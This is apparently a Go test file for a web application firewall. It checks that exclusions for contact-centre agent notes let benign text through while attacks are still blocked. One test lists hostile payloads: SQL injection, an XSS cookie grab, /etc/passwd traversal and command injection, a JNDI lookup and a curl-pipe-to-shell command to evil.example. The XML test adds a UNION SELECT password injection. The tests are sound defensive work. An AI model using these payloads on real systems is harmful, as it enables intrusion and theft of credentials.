package waf

import (
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// agentNotes are notes as contact-center agents write them. The first two
// are the phrasings of coreruleset issue #4214; the others trip CRS 4.25 at
// paranoia 1 without the notes exclusions.
var agentNotes = []struct {
	text    string
	tripsPL bool // refused at PL1 without the exclusion
}{
	{"Customer asked about time of delivery; call back tomorrow at 5", false},
	{"time to call back the customer; call back at 5pm", false},
	{"Order #1234; ping customer again tomorrow", true},
	{"Called from 555-1234; sleep apnea device not working", true},
	{"Customer said she'll be away from 1 to 2; find time later", true},
	{"Follow up; nice customer, wants more time", true},
	{"Bad line; kill the call and call back", true},
	{"Refund issued; print receipt and mail it", true},
	{"Check; id verified; ssh key not relevant", true},
	{"Customer; look at invoice", true},
}

func noteRequest(route, field, note string, asJSON bool) *http.Request {
	if asJSON {
		body, _ := json.Marshal(map[string]string{field: note})
		return newRequest("PUT", route, "application/json", strings.NewReader(string(body)))
	}
	return newRequest("POST", route, "application/x-www-form-urlencoded",
		strings.NewReader(field+"="+url.QueryEscape(note)))
}

func TestWAF_NotesExclusions(t *testing.T) {
	plain := mustWAF(t, Config{})
	notes := mustWAF(t, Config{Exclusions: NotesExclusions("/finesse/api/", "ARGS:note", "ARGS:json.note")})

	for _, n := range agentNotes {
		for _, asJSON := range []bool{false, true} {
			kind := "form"
			if asJSON {
				kind = "json"
			}
			// Without the exclusion: refused where CRS trips.
			up := &upstream{}
			rec := serve(plain.Handler(up), noteRequest("/finesse/api/User/1001/notes", "note", n.text, asJSON))
			if refused := rec.Code == http.StatusForbidden; refused != n.tripsPL {
				t.Errorf("%s %q without exclusion: status %d, expected refused=%v", kind, n.text, rec.Code, n.tripsPL)
			}
			// With it: passes on the note field of the route.
			up = &upstream{}
			rec = serve(notes.Handler(up), noteRequest("/finesse/api/User/1001/notes", "note", n.text, asJSON))
			if rec.Code != http.StatusOK || up.count.Load() != 1 {
				t.Errorf("%s %q with exclusion: status %d", kind, n.text, rec.Code)
			}
			if !n.tripsPL {
				continue
			}
			// The same rules still fire on another field of the route...
			up = &upstream{}
			r := noteRequest("/finesse/api/User/1001/notes", "comment", n.text, asJSON)
			assertRefused(t, serve(notes.Handler(up), r), r, up, http.StatusForbidden)
			// ...and on the same field of another route.
			r = noteRequest("/cuic/rest/notes", "note", n.text, asJSON)
			assertRefused(t, serve(notes.Handler(up), r), r, up, http.StatusForbidden)
		}
	}
}

func TestWAF_NotesExclusionsKeepOtherAttacksOnNotes(t *testing.T) {
	w := mustWAF(t, Config{Exclusions: NotesExclusions("/finesse/api/", "ARGS:note", "ARGS:json.note")})
	for _, attack := range []string{
		"1' OR '1'='1",
		"<script>alert(document.cookie)</script>",
		"../../../../etc/passwd",
		"${jndi:ldap://evil.example/a}",
		"; cat /etc/passwd",
		"$(curl http://evil.example/x|sh)",
	} {
		for _, asJSON := range []bool{false, true} {
			up := &upstream{}
			r := noteRequest("/finesse/api/User/1001/notes", "note", attack, asJSON)
			assertRefused(t, serve(w.Handler(up), r), r, up, http.StatusForbidden)
		}
	}
}

func TestNotesExclusions_Shape(t *testing.T) {
	if NotesExclusions("/finesse/api/") != nil {
		t.Error("a notes exclusion without fields must be nil, never route-wide")
	}
	ex := NotesExclusions("/finesse/api/", "ARGS:note")
	if len(ex) != 1 || ex[0].Routes[0] != "/finesse/api/" || ex[0].Fields[0] != "ARGS:note" || len(ex[0].Rules) != len(NotesRules) {
		t.Errorf("NotesExclusions = %+v", ex)
	}
	ex[0].Rules[0] = 1
	if NotesRules[0] == 1 {
		t.Error("NotesExclusions aliases NotesRules")
	}
	cfg := Config{Exclusions: ex}
	if err := cfg.Validate(); err != nil {
		t.Error(err)
	}
}

func TestWAF_NotesExclusionsForXMLBodies(t *testing.T) {
	// Finesse sends XML: the text of an XML body is the target XML:/*.
	body := `<Dialog><requestedAction>UPDATE_CALL_DATA</requestedAction><mediaProperties><callvariables><CallVariable><name>callVariable5</name><value>Order #1234; ping customer again tomorrow</value></CallVariable></callvariables></mediaProperties></Dialog>`
	plain := mustWAF(t, Config{})
	notes := mustWAF(t, Config{Exclusions: NotesExclusions("/finesse/api/Dialog/", "XML:/*")})
	req := func(route string) *http.Request {
		return newRequest("PUT", route, "application/xml", strings.NewReader(body))
	}
	up := &upstream{}
	r := req("/finesse/api/Dialog/16817733")
	assertRefused(t, serve(plain.Handler(up), r), r, up, http.StatusForbidden)
	if rec := serve(notes.Handler(up), req("/finesse/api/Dialog/16817733")); rec.Code != http.StatusOK {
		t.Errorf("XML note with exclusion: status %d", rec.Code)
	}
	up = &upstream{}
	r = req("/finesse/api/User/1001")
	assertRefused(t, serve(notes.Handler(up), r), r, up, http.StatusForbidden)
	// An attack in the same XML text is still refused.
	up = &upstream{}
	r = newRequest("PUT", "/finesse/api/Dialog/1", "application/xml",
		strings.NewReader(`<Dialog><note>1' OR '1'='1' UNION SELECT password FROM users--</note></Dialog>`))
	assertRefused(t, serve(notes.Handler(up), r), r, up, http.StatusForbidden)
}
